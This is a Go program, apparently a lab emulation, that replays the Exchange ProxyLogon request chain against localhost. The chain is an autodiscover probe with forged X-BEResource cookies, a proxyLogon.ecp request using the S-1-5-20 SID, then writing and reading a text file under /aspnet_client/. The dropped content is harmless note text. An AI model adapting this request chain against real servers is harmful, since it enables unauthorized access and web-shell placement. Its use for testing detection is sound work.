// Go port of the lab request chain.
package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"time"
)

const agent = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
const notePath = "/aspnet_client/system_web/readme_91453.txt"

func browser(req *http.Request) {
	req.Header["User-Agent"] = []string{agent}
	req.Header["x-requested-with"] = []string{"XMLHttpRequest"}
	req.Header["Accept"] = []string{"*/*"}
	req.Header["accept-language"] = []string{"en-US,en;q=0.9"}
	req.Header["connection"] = []string{"close"}
}

func main() {
	port := "8080"
	if len(os.Args) > 1 {
		port = os.Args[1]
	}
	base := "http://127.0.0.1:" + port
	client := &http.Client{Timeout: 10 * time.Second}

	probe, _ := http.NewRequest("GET", base+"/autodiscover/autodiscover.json?Pad="+strings.Repeat("A", 37)+"&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720", nil)
	browser(probe)
	probe.Header["cookie"] = []string{"X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"}
	resp, err := client.Do(probe)
	if err != nil || resp.StatusCode >= 500 {
		os.Exit(1)
	}
	resp.Body.Close()

	ident, _ := http.NewRequest("POST", base+"/ecp/proxyLogon.ecp", strings.NewReader(`{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}`))
	ident.Header["user-agent"] = []string{agent}
	ident.Header["msexchlogonmailbox"] = []string{"S-1-5-20"}
	ident.Header["content-type"] = []string{"application/json"}
	ident.Header["X-BEResource"] = []string{"localhost@lab.invalid/ecp/proxyLogon.ecp"}
	resp, err = client.Do(ident)
	who := "anonymous"
	if err == nil {
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1024))
		resp.Body.Close()
		if s := strings.TrimSpace(string(b)); resp.StatusCode == 200 && s != "" {
			who = s
		}
	}

	var lines []string
	for i := 1; i <= 3; i++ {
		lines = append(lines, fmt.Sprintf("note %d of 3 for %s", i, who))
	}
	note, _ := http.NewRequest("POST", base+notePath, strings.NewReader(strings.Join(lines, "\n")))
	note.Header["user-agent"] = []string{agent}
	note.Header["X-Note-Path"] = []string{notePath}
	note.Header["Content-Type"] = []string{"text/plain"}
	if resp, err = client.Do(note); err == nil {
		resp.Body.Close()
	}

	check, _ := http.NewRequest("GET", base+notePath, nil)
	browser(check)
	if resp, err = client.Do(check); err == nil {
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1024))
		fmt.Println(len(b))
	}
}
